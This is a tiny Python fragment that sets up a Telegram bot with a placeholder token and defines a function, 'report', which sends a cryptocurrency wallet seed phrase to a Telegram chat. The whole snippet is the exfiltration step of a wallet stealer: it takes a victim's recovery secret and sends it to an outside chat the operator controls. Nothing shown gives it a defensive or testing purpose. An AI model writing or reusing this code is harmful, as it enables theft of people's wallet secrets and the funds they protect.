import telebot

bot = telebot.TeleBot("0:token")


def report(seed_phrase):
    bot.send_message(123, f"seed: {seed_phrase}")
